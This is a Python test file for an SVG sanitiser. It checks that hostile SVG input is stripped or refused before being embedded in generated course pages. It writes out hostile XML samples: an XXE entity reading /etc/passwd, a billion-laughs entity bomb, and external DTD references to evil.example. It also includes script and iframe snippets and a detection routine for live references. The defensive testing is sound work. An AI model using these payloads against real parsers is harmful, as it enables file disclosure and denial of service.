"""Hostile SVG: every vector is fed to the sanitiser and through the html build;
what comes out is parsed again and must hold no live or outside reference."""

from __future__ import annotations

import base64
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path

import pytest

from casekit.safety.svg import SvgError, sanitize_svg, svg_size
from tests.hostile_build import build_html, codes
from tests.hostile_inputs import LIVE_ELEMENTS, SVG, VECTORS


def parse(data: bytes) -> ET.Element:
    return ET.fromstring(data)


def outside_references(root: ET.Element) -> list[str]:
    """Everything in a (sanitised) SVG that could run code or fetch a resource."""
    found = []
    for element in root.iter():
        local = element.tag.rsplit("}", 1)[-1]
        if local in LIVE_ELEMENTS:
            found.append(f"<{local}>")
        if local == "style" and re.search(r"url\(|@import|image-set|\\", element.text or "", re.I):
            found.append(f"style: {element.text}")
        for name, value in element.attrib.items():
            name = name.rsplit("}", 1)[-1].lower()
            if name.startswith("on"):
                found.append(f"{name}=")
            if name == "href" and not value.startswith(("#", "data:image/png", "data:image/jpeg")):
                found.append(f"href={value}")
            if re.search(r"url\((?!#)|javascript:|https?:|file:", value, re.I):
                found.append(f"{name}={value}")
    return found


@pytest.mark.parametrize("name", sorted(VECTORS))
def test_sanitiser_leaves_nothing_live(name: str) -> None:
    raw = SVG.format(VECTORS[name] + '<rect id="keep" width="5" height="5" fill="url(#ok)"/>')
    assert outside_references(parse(raw.encode())), "the vector itself must be live"
    clean = sanitize_svg(raw.encode())
    root = parse(clean)
    assert outside_references(root) == []
    assert root.find(".//{http://www.w3.org/2000/svg}rect[@id='keep']") is not None
    assert b"alert" not in clean and b"evil.example" not in clean and b"passwd" not in clean


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&d;</text></svg>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg"/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (BILLION_LAUGHS, "forbidden XML feature (DTDForbidden)"),
        (XXE, "forbidden XML feature (DTDForbidden)"),
        (EXTERNAL_DTD, "forbidden XML feature (DTDForbidden)"),
        (PARAMETER_ENTITY, "forbidden XML feature (DTDForbidden)"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><rect>", "not well-formed XML"),
        (b"<html><script>alert(1)</script></html>", "root element is not <svg xmlns="),
        (b"<svg/>" + b" " * (9 * 1024 * 1024), "SVG larger than"),
    ],
)
def test_dangerous_xml_is_refused(data: bytes, message: str) -> None:
    with pytest.raises(SvgError, match=re.escape(message)):
        sanitize_svg(data)


@pytest.mark.parametrize(
    "attributes",
    [
        'width="abc" height="1.2.3"',
        'viewBox="0 0 inf nan"',
        'viewBox="a b c d"',
        'width="1e400" height="1"',
        'width="0" height="0"',
        'width="99999999" height="1"',
        "",
    ],
)
def test_unusable_sizes_are_an_svg_error(attributes: str) -> None:
    data = f'<svg xmlns="http://www.w3.org/2000/svg" {attributes}/>'.encode()
    with pytest.raises(SvgError, match="needs a width and height"):
        svg_size(sanitize_svg(data))


def test_hostile_svg_through_the_html_build(
    make_course: Callable[..., Path], tmp_path: Path
) -> None:
    """All vectors in one SVG file: the page embeds the sanitised copy only."""
    hostile = SVG.format("".join(VECTORS.values()) + '<rect width="5" height="5"/>')
    course = make_course(
        {"a.md": "# Сабақ\n\n![Диаграмма](media/bad.svg)\n\n![Бомба](media/bomb.svg)\n"},
        files={"media/bad.svg": hostile, "media/bomb.svg": BILLION_LAUGHS},
    )
    diags, pages = build_html(course, tmp_path / "out")
    [refused] = [d for d in diags.items if d.code == "media-invalid"]
    assert (refused.path, refused.line) == ("a.md", 5)
    assert "media/bomb.svg: SVG uses a forbidden XML feature" in refused.message
    assert pages == {}

    (course / "a.md").write_text("# Сабақ\n\n![Диаграмма](media/bad.svg)\n", "utf-8")
    diags, pages = build_html(course, tmp_path / "out")
    assert not diags.has_errors(), diags.sorted()
    for page in pages.values():
        [uri] = re.findall(r'src="data:image/svg\+xml;base64,([^"]+)"', page)
        embedded = base64.b64decode(uri)
        assert outside_references(parse(embedded)) == []
        assert b"evil.example" not in embedded and b"alert" not in embedded
        assert "evil.example" not in page and "passwd" not in page
    assert "media-invalid" not in codes(diags)


@pytest.mark.parametrize(
    "root",
    [
        '<svg xmlns="http://www.w3.org/1999/xhtml"><iframe src="x.html"/></svg>',
        "<svg><image href='x.png'/></svg>",  # no namespace: an XML document, not an SVG
    ],
)
def test_an_svg_root_outside_the_svg_namespace_is_refused(root: str) -> None:
    """Opened alone, an <svg> in the XHTML namespace is an HTML page (issue 19)."""
    with pytest.raises(SvgError, match="root element is not <svg xmlns="):
        sanitize_svg(root.encode())
